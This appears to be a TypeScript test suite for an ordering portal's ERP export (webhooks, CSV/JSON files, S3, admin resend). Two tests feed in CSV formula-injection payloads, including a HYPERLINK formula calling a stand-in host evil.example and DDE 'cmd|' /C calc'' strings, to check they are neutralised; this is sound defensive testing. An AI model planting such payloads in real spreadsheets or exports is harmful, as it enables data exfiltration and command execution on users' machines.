import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { buildApp } from '../../../server/app.js';
import type { ErpConfig } from '../../../server/config.js';
import { fileDi, usaArchivio } from '../../support/archivi.js';
import { celleFormula } from '../../support/csv-ingenuo.js';
import { avviaSmtpTrattenuto } from '../../support/smtp-trattenuto.js';
import { createAdmin, createAzienda, createCliente, createProdotto, createUtente } from '../../support/factories.js';
import { loginAdmin, loginCliente, useTestApp } from '../../support/harness.js';

// Orders out (issue "ERP exchange"): every confirmed order reaches the ERP once, by a signed JSON
// webhook and/or files, through the job queue; an ERP that is down gets them when it is back.
const t = useTestApp();
const SEGRETO = 'segreto-condiviso-con-erp';
let cookie = '';
let utenteCodice = '';

/** The ERP: a real HTTP server that records what it receives and answers as told. */
const ricevuti: { headers: http.IncomingHttpHeaders; body: string; risposta: number }[] = [];
let risposta = 503;
const erp = http.createServer((req, res) => {
  let body = '';
  req.on('data', (c: Buffer) => { body += c.toString('utf8'); });
  req.on('end', () => {
    ricevuti.push({ headers: req.headers, body, risposta });
    res.writeHead(risposta, { 'Content-Type': 'text/plain' }).end(risposta === 200 ? 'ok' : 'ERP in manutenzione');
  });
});
let erpUrl = '';

beforeAll(async () => {
  await t().app.deps.lavori.stop();
  await new Promise<void>((r) => erp.listen(0, '127.0.0.1', () => r()));
  erpUrl = `http://127.0.0.1:${(erp.address() as AddressInfo).port}/ordini`;
  const { db } = t().database;
  const az = await createAzienda(db, { codice: '0001' });
  const c = await createCliente(db, { aziendaCodice: az.codice, codice: '000100', ragioneSociale: 'Ferramenta "Rossi"; Snc' });
  const u = await createUtente(db, { clienti: [c.id], username: 'mario@test.local' });
  utenteCodice = u.codice;
  cookie = await loginCliente(t().app, u);
  await createProdotto(db, { codiceProdotto: 'A1', descrizione1: 'Vite àèì', prezzi: { 1: '1.250' }, disponibilita: 100 });
});
afterAll(() => new Promise<void>((r) => erp.close(() => r())));

const conErp = (erpCfg: ErpConfig | undefined): Promise<FastifyInstance> =>
  buildApp({ ...t().config, erp: erpCfg }, { logger: false });

async function ordina(
  app: FastifyInstance, quantita = 3, altro: { nome?: string; note?: string; codice?: string; riferimento?: string } = {},
): Promise<number> {
  const res = await app.inject({
    method: 'POST', url: '/api/ordini/create', headers: { cookie },
    payload: {
      azienda_codice: '0001', cliente_codice: '000100', utente_codice: utenteCodice, nome: altro.nome, note: altro.note,
      riferimento_cantiere: altro.riferimento,
      carrelloItems: [{ codice_prodotto: altro.codice ?? 'A1', quantita }],
    },
  });
  expect(res.json()).toMatchObject({ status: 0 });
  return res.json().ordine_id as number;
}

const stato = async (id: number) => (await t().database.sql<{ erp_stato: string; erp_tentativi: number; erp_errore: string | null }[]>`
  SELECT erp_stato, erp_tentativi, erp_errore FROM ordini WHERE id = ${id}`)[0]!;

async function subito(id: number) {
  await t().database.sql`
    SELECT graphile_worker.reschedule_jobs(ARRAY(SELECT id FROM graphile_worker.jobs WHERE key = ${`erp:${id}`}), run_at => now())`;
}

describe('orders out to the ERP', () => {
  it('webhook down, then up: the order is delivered once, signed, with its idempotency key', async () => {
    const app = await conErp({ webhookUrl: erpUrl, webhookSecret: SEGRETO });
    try {
      risposta = 503;
      const id = await ordina(app, 3, { nome: 'Scorta', riferimento: 'Cantiere Via Verdi 3' });
      await vi.waitFor(async () => expect(await stato(id)).toMatchObject({ erp_stato: 'errore', erp_errore: expect.stringMatching(/HTTP 503/) }), { timeout: 10_000 });
      const tentativiGiu = ricevuti.length;
      expect(tentativiGiu).toBeGreaterThanOrEqual(1);

      risposta = 200;
      await subito(id);
      await app.deps.lavori.esegui();
      await vi.waitFor(async () => expect(await stato(id)).toMatchObject({ erp_stato: 'inviato', erp_errore: null }), { timeout: 10_000 });
      const consegne = ricevuti.filter((r) => JSON.parse(r.body).ordine_id === id && r.risposta === 200);
      expect(consegne).toHaveLength(1);
      const { headers, body } = consegne[0]!;
      const o = JSON.parse(body);
      // Every field docs/erp.md lists, the job-site reference among them, and nothing else.
      expect(o).toEqual({
        chiave_idempotenza: `portale-ordine-${id}`, ordine_id: id, data: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/),
        azienda_codice: '0001', azienda_nome: expect.any(String), cliente_codice: '000100', cliente_nome: 'Ferramenta "Rossi"; Snc',
        utente_codice: utenteCodice, utente_nome: expect.any(String), nome: 'Scorta', note: '', riferimento_cantiere: 'Cantiere Via Verdi 3',
        totale: '3.750', approvato_da: null, inserito_da_agente: null,
        righe: [{ riga: 1, codice_prodotto: 'A1', descrizione: 'Vite àèì', quantita: 3, qt_in_consegna: 3, qt_in_arrivo: 0, prezzo_unitario: '1.250', importo: '3.750' }],
      });
      expect(headers['idempotency-key']).toBe(`portale-ordine-${id}`);
      const [, ts, v1] = /^t=(\d+),v1=([0-9a-f]{64})$/.exec(String(headers['x-portale-firma']))!;
      expect(v1).toBe(crypto.createHmac('sha256', SEGRETO).update(`${ts}.${body}`).digest('hex'));

      // Delivered: no job left, nothing sent again.
      const prima = ricevuti.length;
      await app.deps.lavori.esegui();
      expect(ricevuti.length).toBe(prima);
      expect(await t().database.sql`SELECT 1 FROM graphile_worker.jobs WHERE key = ${`erp:${id}`}`).toHaveLength(0);
    } finally {
      await app.close();
    }
  });

  it('the hand-over never waits behind the mail: a confirmation held by the mail server, the order still reaches the ERP', async () => {
    const smtp = await avviaSmtpTrattenuto();
    const app = await buildApp({ ...t().config, smtpUrl: `smtp://127.0.0.1:${smtp.porta}`, erp: { webhookUrl: erpUrl, webhookSecret: SEGRETO } }, { logger: false });
    try {
      risposta = 200;
      const primo = await ordina(app);
      // The first order's mail job is running, held by the server, when the second order comes.
      await vi.waitFor(() => expect(smtp.ricevuti()).toBe(1), { timeout: 10_000 });
      const secondo = await ordina(app);
      for (const id of [primo, secondo]) {
        await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('inviato'), { timeout: 10_000 });
      }
      // The second order's mail is still waiting behind the first.
      expect(smtp.ricevuti()).toBe(1);
    } finally {
      smtp.rilascia();
      await app.close();
      await smtp.chiudi();
    }
  });

  it('files: one JSON and one CSV per order in ERP_EXPORT_DIR, written whole', async () => {
    const dir = path.join(t().config.dataDir, 'erp-export');
    const app = await conErp({ exportDir: dir });
    try {
      const id = await ordina(app, 2, { riferimento: 'Lotto 4 – Via Piave' });
      const senza = await ordina(app, 1);
      await app.deps.lavori.esegui();
      await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('inviato'), { timeout: 10_000 });
      await vi.waitFor(async () => expect((await stato(senza)).erp_stato).toBe('inviato'), { timeout: 10_000 });
      const json = JSON.parse(fs.readFileSync(path.join(dir, `ordine-${id}.json`), 'utf8'));
      expect(json).toMatchObject({ ordine_id: id, totale: '2.500', riferimento_cantiere: 'Lotto 4 – Via Piave', righe: [{ codice_prodotto: 'A1', quantita: 2 }] });
      expect(JSON.parse(fs.readFileSync(path.join(dir, `ordine-${senza}.json`), 'utf8'))).toMatchObject({ riferimento_cantiere: null });
      const csv = fs.readFileSync(path.join(dir, `ordine-${id}.csv`), 'utf8');
      const [head, riga] = csv.replace(/^\uFEFF/, '').trim().split('\r\n');
      // The job-site reference last: the columns before keep their places.
      expect(head).toBe(['ordine_id', 'data', 'azienda_codice', 'cliente_codice', 'utente_codice', 'nome_ordine', 'note', 'riga',
        'codice_prodotto', 'descrizione', 'quantita', 'qt_in_consegna', 'qt_in_arrivo', 'prezzo_unitario', 'importo', 'riferimento_cantiere', 'approvato_da', 'approvato_at',
        'inserito_da_agente'].map((c) => `"${c}"`).join(';'));
      // Texts quoted, numbers bare (docs/erp.md).
      expect(riga!.split(';').slice(7)).toEqual(['1', '"A1"', '"Vite àèì"', '2', '2', '0', '1,250', '2,500', '"Lotto 4 – Via Piave"', '""', '""', '""']);
      expect(fs.readFileSync(path.join(dir, `ordine-${senza}.csv`), 'utf8').trimEnd()).toMatch(/;1,250;1,250;"";"";"";""$/);
      expect(riga!.split(';').slice(0, 5)).toEqual([String(id), expect.stringMatching(/^"\d{4}-\d\d-\d\dT[\d:]+Z"$/), '"0001"', '"000100"', `"${utenteCodice}"`]);
      expect(fs.readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    } finally {
      await app.close();
    }
  });

  it('the CSV file neutralises text a spreadsheet would run as a formula; numbers stay numbers', async () => {
    const dir = path.join(t().config.dataDir, 'erp-export-formule');
    const nome = '=HYPERLINK("http://evil.example/?o="&B2;"Apri")';
    const note = "@SUM(1+1)*cmd|' /C calc'!A0";
    const descrizione = "-2+3+cmd|' /C calc'!A0";
    await createProdotto(t().database.db, { codiceProdotto: 'F1', descrizione1: descrizione, prezzi: { 1: '1.500' }, disponibilita: 100 });
    const app = await conErp({ exportDir: dir });
    try {
      const id = await ordina(app, 2, { nome, note, codice: 'F1' });
      await app.deps.lavori.esegui();
      await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('inviato'), { timeout: 10_000 });
      // Read as a spreadsheet reads it: ';', quotes, BOM.
      const [testa, riga] = parse(fs.readFileSync(path.join(dir, `ordine-${id}.csv`)), { delimiter: ';', bom: true }) as string[][];
      const campo = (n: string) => riga![testa!.indexOf(n)];
      expect([campo('nome_ordine'), campo('note'), campo('descrizione')]).toEqual([`'${nome}`, `'${note}`, `'${descrizione}`]);
      expect([campo('quantita'), campo('prezzo_unitario'), campo('importo')]).toEqual(['2', '1,500', '3,000']);
      // The JSON file is no spreadsheet: the texts as the customer wrote them.
      expect(JSON.parse(fs.readFileSync(path.join(dir, `ordine-${id}.json`), 'utf8'))).toMatchObject({ nome, note, righe: [{ descrizione }] });
    } finally {
      await app.close();
    }
  });

  it("a comma smuggles no formula: the probe's order name, read by a spreadsheet that splits on commas, starts no cell with '='", async () => {
    const dir = path.join(t().config.dataDir, 'erp-export-virgola');
    const nome = "x,=cmd|' /C calc'!A0,y";
    const note = 'consegna al mattino;+1+1\n-2+3+cmd|\' /C calc\'!A0';
    const app = await conErp({ exportDir: dir });
    try {
      const id = await ordina(app, 2, { nome, note });
      await app.deps.lavori.esegui();
      await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('inviato'), { timeout: 10_000 });
      const file = fs.readFileSync(path.join(dir, `ordine-${id}.csv`), 'utf8');
      expect(celleFormula(file)).toEqual([]);
      // As the ERP reads it (RFC 4180, ';'): one field each, the order's texts neutralised, numbers bare.
      const [testa, riga] = parse(file, { delimiter: ';', bom: true }) as string[][];
      const campo = (n: string) => riga![testa!.indexOf(n)];
      expect(riga).toHaveLength(testa!.length);
      expect([campo('nome_ordine'), campo('note')]).toEqual(["x,'=cmd|' /C calc'!A0,y", "consegna al mattino;'+1+1\n'-2+3+cmd|' /C calc'!A0"]);
      expect(file).toContain(`;"x,'=cmd|' /C calc'!A0,y";`);
      expect(file).toMatch(/;2;2;0;1,250;2,500;"";"";"";""\r\n$/);
      expect(JSON.parse(fs.readFileSync(path.join(dir, `ordine-${id}.json`), 'utf8'))).toMatchObject({ nome, note });
    } finally {
      await app.close();
    }
  });

  it('no ERP configured: the order says so, nothing is retried', async () => {
    const app = await conErp(undefined);
    try {
      const id = await ordina(app, 1);
      await app.deps.lavori.esegui();
      await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('non_configurato'), { timeout: 10_000 });
    } finally {
      await app.close();
    }
  });

  it('the admin lists the states and resends an order; bad input, customers and other orders refused', async () => {
    const app = await conErp({ webhookUrl: erpUrl, webhookSecret: SEGRETO });
    try {
      const cred = { username: 'admin.erp', password: 'AdminErp2024!' };
      await createAdmin(t().database.db, cred);
      const admin = await loginAdmin(app, cred);
      risposta = 500;
      const id = await ordina(app, 1);
      await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('errore'), { timeout: 10_000 });

      const lista = await app.inject({ method: 'GET', url: '/api/erp/ordini?stato=da_inviare', headers: { cookie: admin } });
      expect(lista.statusCode).toBe(200);
      expect(lista.json().ordini.find((o: { id: number }) => o.id === id))
        .toMatchObject({ erp_stato: 'errore', erp_errore: expect.stringMatching(/HTTP 500/), cliente_codice: '000100' });
      const tutti = await app.inject({ method: 'GET', url: '/api/erp/ordini?limit=1', headers: { cookie: admin } });
      expect(tutti.json().ordini).toHaveLength(1);
      expect(tutti.json().totale).toBeGreaterThanOrEqual(4);

      risposta = 200;
      const r = await app.inject({ method: 'POST', url: '/api/erp/ordini/reinvia', headers: { cookie: admin }, payload: { ordine_id: id } });
      expect(r.json()).toEqual({ status: 0, msg: "Ordine rimesso in coda per l'invio all'ERP." });
      await app.deps.lavori.esegui();
      await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('inviato'), { timeout: 10_000 });
      const [audit] = await t().database.sql`SELECT azione, entita_id FROM modifiche_admin WHERE azione = 'ordine.reinvia_erp'`;
      expect(audit).toEqual({ azione: 'ordine.reinvia_erp', entita_id: String(id) });

      const sconosciuto = await app.inject({ method: 'POST', url: '/api/erp/ordini/reinvia', headers: { cookie: admin }, payload: { ordine_id: 999999 } });
      expect(sconosciuto.statusCode).toBe(404);
      expect(sconosciuto.json()).toEqual({ code: 'non_trovato', msg: 'Ordine non trovato.', requestId: expect.any(String) });
      const malformato = await app.inject({ method: 'POST', url: '/api/erp/ordini/reinvia', headers: { cookie: admin }, payload: { ordine_id: 'x' } });
      expect(malformato.statusCode).toBe(400);
      const statoErrato = await app.inject({ method: 'GET', url: '/api/erp/ordini?stato=boh', headers: { cookie: admin } });
      expect(statoErrato.statusCode).toBe(400);
      expect(statoErrato.json().msg).toMatch(/stato non valido/);
      const cliente = await app.inject({ method: 'POST', url: '/api/erp/ordini/reinvia', headers: { cookie }, payload: { ordine_id: id } });
      expect(cliente.statusCode).toBe(403);
      const nessuno = await app.inject({ method: 'GET', url: '/api/erp/ordini' });
      expect(nessuno.statusCode).toBe(401);
    } finally {
      await app.close();
    }
  });
});

// With media on S3 (MEDIA_STORE=s3) the order files can go to the bucket instead of a folder
// (ERP_EXPORT_PREFIX): the ERP lists the prefix and reads them there (docs/erp.md).
describe('orders out to the ERP as files in the S3 bucket', () => {
  const s3 = usaArchivio('s3');
  const conS3 = () => buildApp({ ...t().config, ...s3.config(), erp: { exportPrefix: '.erp/ordini/' } }, { logger: false });

  it('one CSV and one JSON per order under the prefix, each whole; never served under /media/', async () => {
    const app = await conS3();
    try {
      const id = await ordina(app, 2);
      await app.deps.lavori.esegui();
      await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('inviato'), { timeout: 10_000 });
      const file = fileDi(app.deps.config);
      expect(await file.elenca('.erp/ordini/')).toEqual([`.erp/ordini/ordine-${id}.csv`, `.erp/ordini/ordine-${id}.json`]);
      const json = JSON.parse((await file.leggi(`.erp/ordini/ordine-${id}.json`))!.toString('utf8'));
      expect(json).toMatchObject({ chiave_idempotenza: `portale-ordine-${id}`, ordine_id: id, totale: '2.500', righe: [{ codice_prodotto: 'A1', quantita: 2 }] });
      const [testa, riga] = parse((await file.leggi(`.erp/ordini/ordine-${id}.csv`))!, { delimiter: ';', bom: true }) as string[][];
      expect(testa![0]).toBe('ordine_id');
      expect(riga!.slice(7)).toEqual(['1', 'A1', 'Vite àèì', '2', '2', '0', '1,250', '2,500', '', '', '', '']);
      expect((await app.inject({ url: `/media/.erp/ordini/ordine-${id}.json` })).statusCode).toBe(404);
    } finally {
      await app.close();
    }
  });

  it('a bucket that is down: the order waits in error and reaches the bucket once it is back', async () => {
    const app = await conS3();
    try {
      await s3.server()!.ferma();
      let id = 0;
      try {
        id = await ordina(app, 1);
        await app.deps.lavori.esegui();
        await vi.waitFor(async () => expect(await stato(id)).toMatchObject({
          erp_stato: 'errore', erp_errore: 'Archivio dei file non raggiungibile: riprova tra qualche minuto.',
        }), { timeout: 10_000 });
      } finally {
        await s3.server()!.avvia();
      }
      await subito(id);
      await app.deps.lavori.esegui();
      await vi.waitFor(async () => expect((await stato(id)).erp_stato).toBe('inviato'), { timeout: 10_000 });
      expect(await fileDi(app.deps.config).elenca(`.erp/ordini/ordine-${id}.`)).toHaveLength(2);
    } finally {
      await app.close();
    }
  });
});
